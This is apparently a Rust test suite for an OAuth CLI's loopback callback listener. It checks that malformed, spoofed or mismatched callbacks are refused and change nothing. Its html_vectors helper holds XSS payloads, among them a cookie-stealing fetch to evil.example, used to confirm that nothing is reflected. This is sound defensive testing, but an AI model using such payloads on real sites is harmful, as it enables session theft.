//! The callback listener: whatever reaches the socket changes nothing, and then the good callback is taken.

mod answers;
mod attacks;
pub mod network;
mod peers;

use std::collections::BTreeSet;
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use serde_json::json;

use crate::support::fake::{Fake, Gate, Reply, Seen};
use crate::support::program::{Finished, Program, Running};
use crate::support::skip::needs;
use crate::support::{parameter, send, visit, wait_for, Answer, LIMITS};

/// A login whose answer is awaited, and the good callback that it has not got yet.
struct Waiting {
    fake: Fake,
    login: Running,
    /// The authorization URL.
    url: String,
    /// Where the authorization server sends the browser.
    good: String,
    address: SocketAddr,
}

impl Waiting {
    fn new() -> Self {
        Self::at(Fake::start(), |program| program)
    }

    /// Waits for a login to a fake; `prepare` gives the program what the test wants.
    fn at(fake: Fake, prepare: impl FnOnce(Program) -> Program) -> Self {
        let mut login = prepare(Program::login(&fake)).start();
        let url = login.authorization_url();
        let good = login.redirect(&url);
        let address = url::Url::parse(&good)
            .expect("a URL")
            .socket_addrs(|| None)
            .expect("an address")[0];
        Self {
            fake,
            login,
            url,
            good,
            address,
        }
    }

    fn state(&self) -> String {
        parameter(&self.url, "state").expect("a state")
    }

    fn code(&self) -> String {
        parameter(&self.good, "code").expect("a code")
    }

    /// Returns the path and query of the good callback.
    fn target(&self) -> &str {
        self.good
            .split_once(&self.address.to_string())
            .expect("our address")
            .1
    }

    /// Sends a `GET` with these header lines.
    fn get(&self, target: &str, headers: &str) -> Answer {
        let head = format!(
            "GET {target} HTTP/1.1\r\nHost: {}\r\n{headers}\r\n",
            self.address
        );
        send(self.address, head.as_bytes())
    }

    /// Checks that a request gets this status, and that nothing came of it.
    #[track_caller]
    fn refuses(&self, what: &str, answer: &Answer, status: u16) {
        let what = what.chars().take(200).collect::<String>();
        assert_eq!(answer.status, status, "{what}: {answer:?}");
        assert_eq!(self.fake.seen_at("/token").len(), 0, "{what}");
    }

    /// Sends the good callback, which has to succeed, with exactly one token request in the end.
    #[track_caller]
    fn succeeds(self) -> Finished {
        assert_eq!(self.fake.seen_at("/token").len(), 0);
        let page = visit(&self.good);
        let Self { fake, login, .. } = self;
        let finished = login.finish();
        assert_eq!(page.status, 200, "{page:?}; {}", finished.stderr);
        let title = "<title>Logged in to ";
        assert!(page.body.contains(title), "{page:?}");
        assert!(page.body.contains("You are logged in"), "{page:?}");
        let finished = finished.expect(0);
        assert_eq!(fake.seen_at("/token").len(), 1);
        finished
    }
}

/// Percent-encodes everything that a browser would not send as it is.
fn encode(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[apply(test)]
fn na1_na2_the_redirect_uri_is_the_same_everywhere_and_its_port_never_fixed() {
    let fake = Fake::start();
    let mut ports = BTreeSet::new();
    for _ in 0..3 {
        let mut login = Program::login(&fake).start();
        let listening = login.event("listening")["redirect_uri"]
            .as_str()
            .expect("a URI")
            .to_owned();
        let asked = login.event("authorization_url");
        assert_eq!(asked["redirect_uri"], listening.as_str());
        let url = asked["url"].as_str().expect("a URL");
        assert_eq!(
            parameter(url, "redirect_uri").as_deref(),
            Some(listening.as_str())
        );
        assert_eq!(visit(&login.redirect(url)).status, 200);
        login.finish().expect(0);
        let exchanged = fake.seen_at("/token").pop().expect("a token request");
        assert_eq!(
            exchanged.parameter("redirect_uri").as_deref(),
            Some(listening.as_str())
        );
        let port = listening
            .strip_prefix("http://127.0.0.1:")
            .expect("the literal address");
        ports.insert(port.strip_suffix("/callback").expect("the path").to_owned());
    }
    assert_eq!(ports.len(), 3, "{ports:?}");
}

#[apply(test)]
fn na8_registration_tells_of_a_native_client_without_a_secret() {
    let fake = Fake::start();
    let mut login = Program::login(&fake).start();
    login.agree();
    login.finish().expect(0);
    let asked: serde_json::Value =
        serde_json::from_str(&fake.seen_at("/register")[0].body).expect("JSON");
    assert_eq!(asked["token_endpoint_auth_method"], "none");
    assert_eq!(asked["application_type"], "native");
    assert!(fake.seen_at("/token")[0]
        .parameter("client_secret")
        .is_none());
}

#[apply(test)]
fn na5_l16_the_port_is_open_only_while_it_is_waited_for() {
    let waiting = Waiting::new();
    let address = waiting.address;
    TcpStream::connect(address).expect("an open port");
    waiting.succeeds();
    TcpStream::connect(address).expect_err("closed after success");

    let fake = Fake::start();
    let (address, finished) = LIMITS
        .iter()
        .find_map(|limit| {
            let mut late = Program::login(&fake).args(["--timeout", limit]).start();
            let uri = late.next_event("listening")?["redirect_uri"].to_string();
            let url = url::Url::parse(uri.trim_matches('"')).expect("a URL");
            let address = url.socket_addrs(|| None).expect("an address")[0];
            late.event("error");
            Some((address, late.finish().expect_error(4, "timed_out")))
        })
        .expect("a port in time");
    TcpStream::connect(address).expect_err("closed after the deadline");
    assert!(finished.stderr.contains("--timeout"), "{}", finished.stderr);
}

#[apply(test)]
fn v7_only_loopback_is_listened_on() {
    needs(&["ss"]);
    let waiting = Waiting::new();
    let port = waiting.address.port().to_string();
    let listed = std::process::Command::new("ss")
        .args(["-H", "-ltn", &format!("sport = :{port}")])
        .output();
    let listed = String::from_utf8(listed.expect("ss").stdout).expect("text");
    let local: Vec<_> = listed
        .lines()
        .filter_map(|line| line.split_whitespace().nth(3))
        .collect();
    assert_eq!(local, [format!("127.0.0.1:{port}")], "{listed}");
    waiting.succeeds();
}

#[apply(test)]
fn na7_l4_l7_u6_other_paths_and_methods_are_answered_and_change_nothing() {
    let waiting = Waiting::new();
    let query = waiting
        .target()
        .split_once('?')
        .expect("a query")
        .1
        .to_owned();
    let host = format!("Host: {}\r\n\r\n", waiting.address);
    for (target, status) in [
        ("/", 404),
        ("/robots.txt", 404),
        ("/favicon.ico", 204),
        ("/.well-known/appspecific/com.chrome.devtools.json", 404),
        ("/callback/", 404),
        ("/Callback", 404),
        ("/callback;x", 404),
        ("//callback", 404),
        ("/callback%2f", 404),
        ("/%63allback", 404),
        ("/x/../callback", 404),
        ("http://evil.example/callback", 404),
        ("https://127.0.0.1/callback", 404),
        ("*", 404),
    ] {
        let answer = waiting.get(&format!("{target}?{query}"), "");
        waiting.refuses(target, &answer, status);
        assert_eq!(answer.body.is_empty(), status == 204, "{answer:?}");
    }
    for method in [
        "HEAD", "OPTIONS", "PUT", "POST", "DELETE", "PATCH", "TRACE", "CONNECT",
    ] {
        for (path, status) in [("/callback", 405), ("/other", 404)] {
            let answer = send(
                waiting.address,
                format!("{method} {path}?{query} HTTP/1.1\r\n{host}").as_bytes(),
            );
            waiting.refuses(&format!("{method} {path}"), &answer, status);
        }
    }
    let form = format!(
        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n{host}",
        query.len()
    );
    let answer = send(
        waiting.address,
        format!("POST /callback HTTP/1.1\r\n{form}{query}").as_bytes(),
    );
    waiting.refuses("a form", &answer, 405);
    assert_eq!(answer.header("allow"), Some("GET"));
    let finished = waiting.succeeds();
    assert!(
        finished
            .events
            .iter()
            .all(|event| event["event"] != "rejected"),
        "{}",
        finished.stdout
    );
}

#[apply(test)]
fn v4_hosts_of_other_machines_are_refused() {
    let waiting = Waiting::new();
    let (target, port) = (waiting.target().to_owned(), waiting.address.port());
    let get = |headers: &str| {
        send(
            waiting.address,
            format!("GET {target} HTTP/1.1\r\n{headers}\r\n").as_bytes(),
        )
    };
    for host in [
        "evil.example",
        &format!("evil.example:{port}"),
        &format!("127.0.0.1.evil.example:{port}"),
        &format!("localhost.evil.example:{port}"),
        &format!("0.0.0.0:{port}"),
        &format!("10.0.0.1:{port}"),
        &format!("user@127.0.0.1:{port}"),
        "",
    ] {
        let answer = get(&format!("Host: {host}\r\n"));
        waiting.refuses(host, &answer, 421);
        assert!(
            !answer.head.to_ascii_lowercase().contains("access-control"),
            "{answer:?}"
        );
    }
    waiting.refuses("no host", &get(""), 421);
    let twice = get(&format!(
        "Host: 127.0.0.1:{port}\r\nHost: 127.0.0.1:{port}\r\n"
    ));
    waiting.refuses("two hosts", &twice, 421);
    waiting.succeeds();
}

#[apply(test)]
fn l17_v4_only_a_visit_by_a_person_is_accepted() {
    let waiting = Waiting::new();
    let target = waiting.target().to_owned();
    for headers in [
        "Sec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty\r\n",
        "Sec-Fetch-Mode: no-cors\r\nSec-Fetch-Dest: image\r\n",
        "Sec-Fetch-Mode: no-cors\r\n",
        "Sec-Fetch-Mode: websocket\r\n",
        "Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: iframe\r\n",
        "Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: embed\r\n",
        "Sec-Fetch-Dest: script\r\n",
        "Sec-Purpose: prefetch\r\n",
        "Sec-Purpose: prefetch;prerender\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n",
        "Purpose: prefetch\r\n",
        "Origin: https://evil.example\r\n",
        "Origin: https://evil.example\r\nSec-Fetch-Mode: navigate\r\n",
    ] {
        let answer = waiting.get(&target, headers);
        waiting.refuses(headers, &answer, 403);
        assert!(!answer.head.to_ascii_lowercase().contains("access-control"), "{answer:?}");
    }
    waiting.succeeds();
}

#[apply(test)]
fn l8_v9_v6_na6_a_callback_without_our_state_changes_nothing() {
    let fake = Fake::start();
    let other = Waiting::at(fake.clone(), |program| program);
    let mut waiting = Waiting::at(fake, |program| program);
    let (state, code) = (waiting.state(), waiting.code());
    let last = if state.ends_with('A') { 'B' } else { 'A' };
    let close = format!("{}{last}", &state[..state.len() - 1]);
    for wrong in [
        String::new(),
        "state=".into(),
        "state".into(),
        "state=guess".into(),
        format!("state={}", &state[..state.len() - 1]),
        format!("state={state}x"),
        format!("state={close}"),
        format!("state={}", state.to_uppercase()),
        format!("state={}", other.state()),
        format!("state={state}&state={state}"),
        format!("state={state}&state={}", other.state()),
        format!("State={state}"),
        format!("state[]={state}"),
        format!("state=%20{state}"),
        format!("state={state}%00"),
    ] {
        for rest in [
            format!("code={code}"),
            "error=access_denied".to_owned(),
            String::new(),
        ] {
            let answer = waiting.get(&format!("/callback?{wrong}&{rest}"), "");
            waiting.refuses(&format!("{wrong} {rest}"), &answer, 400);
            assert!(
                answer
                    .body
                    .contains("does not belong to the login that is running"),
                "{answer:?}"
            );
        }
    }
    let rejected = waiting.login.event("rejected");
    assert_eq!(
        (&rejected["source"], &rejected["reason"]),
        (&json!("callback"), &json!("state_mismatch")),
        "{rejected}"
    );
    let finished = waiting.succeeds();
    assert!(
        finished.stderr.contains("to another login"),
        "{}",
        finished.stderr
    );
    // The other login took no harm either.
    visit(&other.good);
    other.login.finish().expect(0);
}

#[apply(test)]
fn l11_l12_what_is_ambiguous_or_cannot_be_read_changes_nothing() {
    let mut waiting = Waiting::new();
    let (state, code) = (waiting.state(), waiting.code());
    let long = "c".repeat(9 * 1024);
    for query in [
        format!("code={code}&error=access_denied"),
        format!("code={code}&code={code}"),
        format!("code={code}&code=other"),
        "error=access_denied&error=access_denied".into(),
        format!("code={code}&iss=a&iss=a"),
        format!("code={code}&iss=https%3A%2F%2Fother.example"),
        format!("code={code}&iss="),
        "error=access_denied&iss=https%3A%2F%2Fother.example".into(),
        "code=".into(),
        "code".into(),
        "x=y".into(),
        String::new(),
        format!("code={long}"),
        "code=%".into(),
        "code=%2".into(),
        "code=%zz".into(),
        "code=a%00b".into(),
        "code=a%0d%0ab".into(),
        "code=%7f".into(),
        "code=%ff".into(),
        "code=%c0%80".into(),
        "code=%ed%a0%80".into(),
        "code=\u{e9}".into(),
        format!("Code={code}"),
        format!("code[]={code}"),
        format!("code%00={code}"),
    ] {
        let answer = waiting.get(&format!("/callback?state={state}&{query}"), "");
        waiting.refuses(&query, &answer, 400);
    }
    // Here `;` is no separator, so this is another state.
    let answer = waiting.get(&format!("/callback?state={state};code={code}"), "");
    waiting.refuses("a semicolon", &answer, 400);
    for reason in [
        "ambiguous",
        "issuer_mismatch",
        "malformed",
        "state_mismatch",
    ] {
        while waiting.login.event("rejected")["reason"] != reason {}
    }
    // Encoded names are names, and names of strangers are not even decoded.
    waiting.good = format!(
        "http://{}/callback?%63ode={code}&st%61te={state}&session_state=%zz&x=%00",
        waiting.address
    );
    waiting.succeeds();
}

#[apply(test)]
fn b1_an_answer_of_another_issuer_is_neither_used_nor_shown() {
    let mut waiting = Waiting::at(answers::promises_iss(), |program| program);
    let (state, code, issuer) = (waiting.state(), waiting.code(), waiting.fake.origin());
    let words = "error=access_denied&error_description=CANARY+words&error_uri=CANARY";
    for iss in [
        "&iss=".into(),
        format!("&iss={}", encode(&format!("{issuer}/"))),
        format!("&iss={}", encode(&issuer.to_uppercase())),
        format!("&iss={}", encode(&issuer.replace("127.0.0.1", "localhost"))),
        "&iss=https%3A%2F%2Fevil.example".into(),
        format!("&iss={issuer}&iss={issuer}"),
    ] {
        for rest in [format!("code={code}"), words.to_owned()] {
            let answer = waiting.get(&format!("/callback?state={state}&{rest}{iss}"), "");
            waiting.refuses(&iss, &answer, 400);
        }
    }
    waiting.login.event("rejected");
    waiting.good = format!("{}&iss={}", waiting.good, encode(&issuer));
    let finished = waiting.succeeds();
    assert!(
        !finished.stderr.contains("CANARY") && !finished.stdout.contains("CANARY"),
        "{}",
        finished.stderr
    );
}

#[apply(test)]
fn l9_a_refusal_with_our_state_ends_the_login() {
    let waiting = Waiting::new();
    let target = format!(
        "/callback?error=access_denied&error_description=I+said+no&state={}",
        waiting.state()
    );
    let page = waiting.get(&target, "");
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("The login to 127.0.0.1 was refused")
            && page.body.contains("denied access"),
        "{page:?}"
    );
    let finished = waiting.login.finish().expect_error(3, "access_denied");
    assert!(finished.stderr.contains("I said no"), "{}", finished.stderr);
    assert_eq!(waiting.fake.seen_at("/token").len(), 0);
}

#[apply(test)]
fn l10_a_server_that_is_busy_can_be_tried_again() {
    for error in ["server_error", "temporarily_unavailable", "slow_down"] {
        let mut waiting = Waiting::new();
        let target = format!(
            "/callback?error={error}&error_description=later&state={}",
            waiting.state()
        );
        let page = waiting.get(&target, "");
        waiting.refuses(error, &page, 503);
        assert_eq!(waiting.login.event("rejected")["reason"], "temporary");
        let finished = waiting.succeeds();
        assert!(
            finished.stderr.contains("later") && finished.stderr.contains(error),
            "{}",
            finished.stderr
        );
    }
}

#[apply(test)]
fn l14_an_address_without_an_answer_asks_for_the_whole_one() {
    let waiting = Waiting::at(Fake::start(), |program| program.arg("--paste").with_stdin());
    let mut waiting = waiting;
    let page = waiting.get("/callback", "");
    waiting.refuses("bare", &page, 400);
    assert!(page.body.contains("paste it into the terminal"), "{page:?}");
    waiting
        .login
        .type_in(&format!("{}\n", waiting.good.replace('?', "#")));
    let finished = waiting.login.finish().expect(0);
    assert!(
        finished
            .events
            .iter()
            .all(|event| event["event"] != "rejected"),
        "{}",
        finished.stdout
    );
}

#[apply(long_test)]
fn v5_no_byte_of_a_request_is_in_an_answer() {
    let without_date = |answer: &Answer| {
        let head: Vec<_> = answer
            .head
            .lines()
            .filter(|line| !line.starts_with("Date:"))
            .collect();
        (answer.status, head.join("\n"), answer.body.clone())
    };
    let vectors = html_vectors();
    assert!(vectors.len() >= 200 / 6, "{}", vectors.len());
    let waiting = Waiting::new();
    let state = waiting.state();
    let plain = without_date(&waiting.get("/callback?code=x", ""));
    let nothing = without_date(&waiting.get("/x", ""));
    let ambiguous =
        without_date(&waiting.get(&format!("/callback?state={state}&code=x&error=y"), ""));
    let busy =
        without_date(&waiting.get(&format!("/callback?state={state}&error=server_error"), ""));
    let mut tried = 0;
    for vector in &vectors {
        let text = encode(vector);
        for parameter in [
            "code",
            "error",
            "error_description",
            "error_uri",
            "state",
            "iss",
        ] {
            let target = format!("/callback?{parameter}={text}&x=y");
            assert_eq!(without_date(&waiting.get(&target, "")), plain, "{target}");
            tried += 1;
        }
        assert_eq!(without_date(&waiting.get(&format!("/{text}"), "")), nothing);
        let target =
            format!("/callback?state={state}&code={text}&error={text}&error_description={text}");
        assert_eq!(
            without_date(&waiting.get(&target, "")),
            ambiguous,
            "{target}"
        );
        let target = format!(
            "/callback?state={state}&error=server_error&error_description={text}&error_uri={text}"
        );
        assert_eq!(without_date(&waiting.get(&target, "")), busy, "{target}");
        let headers = format!("User-Agent: {vector}\r\nReferer: {vector}\r\nCookie: {vector}\r\n");
        let headers: String = headers.chars().filter(char::is_ascii).collect();
        assert_eq!(
            without_date(&waiting.get("/x", &headers)),
            nothing,
            "{headers}"
        );
    }
    assert!(tried >= 200, "{tried}");
    waiting.succeeds();

    // A page that ends the login is constant too: of the error only codes that the specifications know are named.
    let refused = |words: &str| {
        let waiting = Waiting::new();
        let target = format!(
            "/callback?state={}&error={words}&error_description={words}",
            waiting.state()
        );
        let page = without_date(&waiting.get(&target, ""));
        waiting.login.finish().expect(3);
        page
    };
    assert_eq!(
        refused(&encode("<script>alert(1)</script>")),
        refused("another_code")
    );
}

fn html_vectors() -> Vec<String> {
    let payloads = [
        "alert(1)",
        "fetch('//evil.example/'+document.cookie)",
        "location='javascript:alert(1)'",
    ];
    let frames = [
        "<script>PAYLOAD</script>",
        "<ScRiPt>PAYLOAD</sCrIpT>",
        "\"><script>PAYLOAD</script>",
        "'><img src=x onerror=PAYLOAD>",
        "</h1><svg onload=PAYLOAD>",
        "</style><body onload=PAYLOAD>",
        "<!--><iframe src=\"javascript:PAYLOAD\">",
        "{{PAYLOAD}}${PAYLOAD}<%= PAYLOAD %>",
        "<a href=\"javascript:PAYLOAD\">x</a>",
        "&lt;script&gt;PAYLOAD&lt;/script&gt;",
        "+ADw-script+AD4-PAYLOAD+ADw-/script+AD4-",
        "<meta http-equiv=refresh content=\"0;url=javascript:PAYLOAD\">",
    ];
    frames
        .iter()
        .flat_map(|frame| payloads.map(|payload| frame.replace("PAYLOAD", payload)))
        .collect()
}

#[apply(test)]
fn b10_sec8_the_page_leaks_and_loads_nothing() {
    let waiting = Waiting::new();
    let page = visit(&waiting.good);
    waiting.login.finish().expect(0);
    assert_eq!(page.status, 200, "no redirect to another page");
    for (name, value) in [
        ("referrer-policy", "no-referrer"),
        ("cache-control", "no-store"),
        ("x-content-type-options", "nosniff"),
        ("content-type", "text/html; charset=utf-8"),
    ] {
        assert_eq!(page.header(name), Some(value), "{}", page.head);
    }
    let policy = page.header("content-security-policy").expect("a policy");
    assert!(policy.starts_with("default-src 'none'"), "{policy}");
    let body = page.body.to_ascii_lowercase();
    for forbidden in [
        "<script", "<a ", "<link", "<img", "src=", "href=", "http:", "https:", "url(", "@import",
    ] {
        assert!(!body.contains(forbidden), "{forbidden} in {body}");
    }
}

#[apply(test)]
fn l15_ten_callbacks_at_once_are_one_answer() {
    let gate = Gate::default();
    let held = gate.clone();
    let fake = Fake::with(move |seen, _| {
        if seen.path == "/token" {
            held.pass();
        }
        None
    });
    let waiting = Waiting::at(fake, |program| program);
    let visitors: Vec<_> = (0..10)
        .map(|_| {
            let good = waiting.good.clone();
            std::thread::spawn(move || visit(&good))
        })
        .collect();
    wait_for("the exchange", || waiting.fake.seen_at("/token").pop());
    // Another code with the right state is too late.
    let other = waiting.get(
        &format!("/callback?state={}&code=another", waiting.state()),
        "",
    );
    assert_eq!(other.status, 400, "{other:?}");
    gate.open();
    let pages: Vec<_> = visitors
        .into_iter()
        .map(|visitor| visitor.join().expect("a visit"))
        .collect();
    waiting.login.finish().expect(0);
    assert_eq!(waiting.fake.seen_at("/token").len(), 1);
    let told = pages
        .iter()
        .filter(|page| page.body.contains("You are logged in"))
        .count();
    assert!(told >= 1, "{pages:?}");
    assert!(
        pages
            .iter()
            .all(|page| page.status == 200 || page.status == 0),
        "{pages:?}"
    );
}

#[apply(test)]
fn l19_others_are_answered_during_the_exchange_and_the_page_tells_the_truth() {
    let gate = Gate::default();
    let held = gate.clone();
    let fake = Fake::with(move |seen, _| {
        (seen.path == "/token").then(|| {
            held.pass();
            Reply::json(
                400,
                &json!({"error": "invalid_grant", "error_description": "too late"}),
            )
        })
    });
    let waiting = Waiting::at(fake, |program| program);
    let good = waiting.good.clone();
    let visitor = std::thread::spawn(move || visit(&good));
    wait_for("the exchange", || waiting.fake.seen_at("/token").pop());
    assert_eq!(waiting.get("/other", "").status, 404);
    assert_eq!(waiting.get("/favicon.ico", "").status, 204);
    assert!(!visitor.is_finished(), "the page waits for the truth");
    gate.open();
    let page = visitor.join().expect("a visit");
    assert_eq!(page.status, 500);
    assert!(
        page.body.contains("The login to 127.0.0.1 failed") && !page.body.contains("too late"),
        "{page:?}"
    );
    let finished = waiting.login.finish().expect_error(3, "invalid_grant");
    assert!(finished.stderr.contains("too late"), "{}", finished.stderr);
    assert!(!finished.credentials_path().exists(), "nothing is kept");
}

/// The deadline ends the waiting, not the exchange; the browser is told after 10 s where to look.
/// It waits for a page that is held back for 10 s.
#[apply(waiting_test)]
fn l19_a_slow_exchange_outlives_the_deadline_and_is_stored() {
    let gate = Gate::default();
    let held = gate.clone();
    let fake = Fake::with(move |seen, _| {
        if seen.path == "/token" {
            held.pass();
        }
        None
    });
    let waiting = Waiting::at(fake, |program| program.args(["--timeout", "9s"]));
    let started = Instant::now();
    let page = visit(&waiting.good);
    assert!(
        page.body.contains("The terminal will say how it ends"),
        "{page:?}"
    );
    assert!(
        started.elapsed() >= Duration::from_secs(9),
        "{:?}",
        started.elapsed()
    );
    gate.open();
    let finished = waiting.login.finish().expect(0);
    assert_eq!(
        finished.kept(&waiting.fake.mcp())["refresh_token"],
        "refresh-1"
    );
}

#[apply(test)]
fn l20_a_token_request_that_was_read_is_not_sent_again() {
    let fake = Fake::with(|seen: &Seen, _| (seen.path == "/token").then(|| Reply::Raw(Vec::new())));
    let waiting = Waiting::at(fake, |program| program);
    let page = visit(&waiting.good);
    assert_eq!(page.status, 500);
    waiting.login.finish().expect(5);
    assert_eq!(waiting.fake.seen_at("/token").len(), 1);
}
